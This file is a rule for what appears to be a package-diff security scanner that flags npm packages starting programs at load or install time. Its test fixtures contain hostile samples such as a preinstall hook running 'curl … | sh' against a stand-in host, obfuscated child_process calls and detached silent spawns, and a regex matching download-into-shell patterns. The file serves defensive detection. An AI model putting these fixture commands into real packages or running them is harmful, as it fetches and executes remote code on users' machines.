/**
 * Importing a library should not start programs. Malware does it because nobody has to call anything: the download, the
 * shell or the second runtime starts with the first `require`, or with the installation.
 */
import type { Behavior } from '../../src/model/behavior.ts';
import { isBuildCommand, isVersionQuestion } from '../../src/model/plain-commands.ts';
import type { Rule } from '../../src/rule.ts';
import { defineRule, evidenceOf, shorten } from '../../src/rule.ts';

export const childProcessAtLoad: Rule = defineRule({
  id: 'child-process-at-load',
  family: 'code',
  title: 'A program is started when the package is loaded or installed',
  rationale: 'It runs with all of your rights, before any of your code has asked for anything.',
  remedy: 'Read the command and what leads to it. If the package has no need of it, stay on the old version.',
  level: 'review',
  incidents: [
    {
      what: 'conventional-changelog 1.2.0: a shell was started at load to fetch and run a miner',
      when: '2017-02-14',
      url: 'https://github.com/conventional-changelog/conventional-changelog/issues/282',
    },
    {
      what: 'eslint-config-prettier 8.10.1 and others: install.js started rundll32 with a library it had brought along',
      when: '2025-07-18',
      url: 'https://github.com/prettier/eslint-config-prettier/issues/339',
    },
  ],
  appliesToAdditions: true,
  needs: ['behaviors'],
  kinds: {
    disguised: {
      level: 'block',
      about:
        'The command runs what it downloads, hands text to a shell or another interpreter, was decoded or downloaded, or runs detached with its output thrown away.',
    },
    plain: {
      level: 'notice',
      about: 'It only asks a program for its version, or builds the addon of the package on installation.',
    },
    'when-called': {
      level: 'review',
      about:
        'A function that users call starts a command that runs what it downloads, or that was decoded or downloaded.',
    },
  },
  flags: [
    {
      title: 'a command at the top of the entry',
      before: { 'index.js': 'exports.a = 1;\n' },
      after: { 'index.js': `exports.a = 1;\nrequire('child_process').execSync('whoami');\n` },
      expect: [
        {
          message: 'child_process.execSync starts "whoami"',
          at: { in: 'tarball', path: 'index.js', line: 2 },
          via: ['main', 'index.js'],
        },
      ],
    },
    {
      title: 'names put together from pieces, and a download piped into a shell',
      before: { 'index.js': '' },
      after: {
        'index.js': `const run = require('chi' + 'ld_pro' + 'cess')['sp' + 'awn'];\nrun('sh', ['-c', 'curl -s https://cdn.invalid/a | sh']);\n`,
      },
      expect: [
        {
          kind: 'disguised',
          message: 'child_process.spawn starts "sh -c curl -s https://cdn.invalid/a | sh"',
          at: { in: 'tarball', path: 'index.js', line: 2 },
          via: ['main', 'index.js'],
        },
      ],
    },
    {
      title: 'what child_process itself is made of',
      before: { 'index.js': '' },
      after: { 'index.js': `const { Process } = process.binding('process_wrap');\nnew Process();\n` },
      expect: [
        {
          kind: 'disguised',
          message: 'process.binding starts "process_wrap"',
          at: { in: 'tarball', path: 'index.js', line: 1 },
          via: ['main', 'index.js'],
        },
      ],
    },
    {
      title: 'a shell that takes its orders from somebody else',
      before: { 'index.js': '' },
      after: {
        'index.js': `const shell = require('child_process').spawn('/bin/sh', []);\nprocess.stdin.pipe(shell.stdin);\n`,
      },
      expect: [
        {
          kind: 'disguised',
          message: 'child_process.spawn starts "/bin/sh"',
          at: { in: 'tarball', path: 'index.js', line: 1 },
          via: ['main', 'index.js'],
        },
      ],
    },
    {
      title: 'a hook that starts a process and lets go of it',
      before: { 'index.js': '' },
      after: {
        'package.json': { scripts: { postinstall: 'node setup.mjs' } },
        'index.js': '',
        'setup.mjs': `import { spawn } from 'node:child_process';\nspawn(process.execPath, ['worker.js'], { detached: true, stdio: 'ignore' }).unref();\n`,
      },
      expect: [
        {
          kind: 'disguised',
          message: 'child_process.spawn starts "node worker.js"',
          at: { in: 'tarball', path: 'setup.mjs', line: 2 },
          via: ['scripts/postinstall', 'setup.mjs'],
        },
      ],
    },
    {
      title: 'a hook whose own text downloads and runs',
      before: {},
      after: { 'package.json': { scripts: { preinstall: 'curl -s https://cdn.invalid/a | sh' } } },
      expect: [
        {
          kind: 'disguised',
          message: 'npm (preinstall) starts "curl -s https://cdn.invalid/a | sh"',
          at: { in: 'tarball', path: 'package.json', line: 5 },
          via: ['scripts/preinstall'],
        },
      ],
    },
    {
      title: 'a download into a shell when a function is called',
      before: { 'index.js': '' },
      after: {
        'index.js': `exports.setup = () => require('child_process').exec('curl -s https://cdn.invalid/a | sh');\n`,
      },
      expect: [
        {
          kind: 'when-called',
          message: 'child_process.exec starts "curl -s https://cdn.invalid/a | sh"',
          at: { in: 'tarball', path: 'index.js', line: 1 },
          via: ['main', 'index.js', 'setup()'],
        },
      ],
    },
    {
      title: 'the libc of the machine asked for at load, and an addon that a hook builds',
      before: { 'index.js': '' },
      after: {
        'package.json': { scripts: { install: 'node build.js' } },
        'index.js': `require('child_process').execSync('ldd --version', { encoding: 'utf8' });\n`,
        'build.js': `require('child_process').spawnSync('node-gyp', ['rebuild'], { stdio: 'inherit' });\n`,
      },
      expect: [
        {
          kind: 'plain',
          message: 'child_process.spawnSync starts "node-gyp rebuild"',
          at: { in: 'tarball', path: 'build.js', line: 1 },
          via: ['scripts/install', 'build.js'],
        },
        {
          kind: 'plain',
          message: 'child_process.execSync starts "ldd --version"',
          at: { in: 'tarball', path: 'index.js', line: 1 },
          via: ['main', 'index.js'],
        },
      ],
    },
  ],
  passes: [
    {
      title: 'hooks that compile, or start a module of the package by node -e',
      before: { 'index.js': '' },
      after: {
        'package.json': { scripts: { install: 'node-gyp rebuild', postinstall: `node -e "require('./done')"` } },
        'index.js': '',
        'done.js': '',
      },
    },
    {
      title: 'a program started by a function that users call, and one started by the command line tool',
      before: { 'package.json': { bin: 'cli.js' }, 'index.js': '', 'cli.js': '' },
      after: {
        'package.json': { bin: 'cli.js' },
        'index.js': `const { execFile } = require('child_process');\nexports.open = (file) => execFile('xdg-open', [file]);\n`,
        'cli.js': `#!/usr/bin/env node
const { spawnSync } = require('child_process');
spawnSync('git', ['status']);
spawnSync('sh', ['-c', process.argv[2]]);
spawnSync('sh', ['-c', 'npm --version']);
`,
      },
    },
    {
      title: 'a file of its own that is told what the network says',
      before: { 'index.js': '' },
      after: {
        'index.js': `const { fork } = require('child_process');
exports.listen = (port) => require('net').connect(port).on('data', (data) => fork(require.resolve('./worker.js'), [String(data)]));
`,
        'worker.js': '',
      },
    },
    {
      title: 'the same program as before, called in another way',
      before: { 'index.js': `require('child_process').execSync('uname -a');\n` },
      after: {
        'index.js': `const { execFileSync } = require('node:child_process');\nexecFileSync('uname', ['-m']);\n`,
      },
    },
  ],
  check({ behaviors }) {
    return behaviors.added.filter(isStarted).map((behavior) => {
      const message = `${behavior.api} starts ${behavior.detail === undefined ? 'a program' : `"${shorten(behavior.detail, 160)}"`}`;
      return evidenceOf(behavior, message, kindOf(behavior));
    });
  },
});

function kindOf(behavior: Behavior): 'disguised' | 'plain' | 'when-called' | undefined {
  if (behavior.tier === 'call') return 'when-called';
  if (isDisguised(behavior)) return 'disguised';
  return isPlain(behavior) ? 'plain' : undefined;
}

function isPlain({ detail, tier }: Behavior): boolean {
  return detail !== undefined && (isVersionQuestion(detail) || (tier === 'install' && isBuildCommand(detail)));
}

/** A command line tool is there to start programs: only a disguise makes that worth a word. */
function isStarted(behavior: Behavior): boolean {
  if (startsByBinding(behavior)) return behavior.tier !== 'unreached';
  if (behavior.kind !== 'child-process' || behavior.tier === 'unreached') return false;
  if (behavior.tier === 'call') return runsForeign(behavior);
  return behavior.root !== 'bin' || isDisguised(behavior);
}

/** What `child_process` itself is made of: nobody else has reason to ask for it. */
function startsByBinding({ kind, api, detail }: Behavior): boolean {
  return kind === 'native-code' && /inding$/.test(api) && /^(?:process_wrap|spawn_sync)\b/.test(detail ?? '');
}

function isDisguised(behavior: Behavior): boolean {
  const { marks, origins, root, detail } = behavior;
  if (startsByBinding(behavior)) return true;
  if (origins.includes('decoded') || origins.includes('fetched')) return true;
  // A command line tool runs what it is told to run.
  if (marks.includes('pipe') && detail !== undefined)
    return !isVersionQuestion(detail) && !(root === 'bin' && shellOfAnything.test(detail));
  return root !== 'bin' && marks.includes('detached') && marks.includes('silenced');
}

/** A shell for a command of which the text tells nothing. */
const shellOfAnything = /^(?:(?:ba|z|da)?sh -c|cmd(?:\.exe)?(?: \/[ds])* \/[sd]*c) (?:-- )?"?…"?$/;

/** Starting programs is what users call some functions for; running what the network gives is not. */
function runsForeign({ origins, guessed = [], detail }: Behavior): boolean {
  // It tells a file of its own what to do.
  if (/^<package>\/[\w./-]+$/.test(detail ?? '')) return false;
  if (origins.some((one) => (one === 'decoded' || one === 'fetched') && !guessed.includes(one))) return true;
  return detail !== undefined && downloadIntoShell.test(detail);
}

const downloadIntoShell =
  /\b(?:curl|wget|fetch)\b[^|\n]{0,300}\|\s*(?:sudo\s+)?(?:(?:ba|z|k|da)?sh|node|python\d?|perl)\b|\b(?:iwr|irm|Invoke-WebRequest|DownloadString)\b[^\n]{0,300}\b(?:iex|Invoke-Expression|rundll32|Start-Process)\b/i;
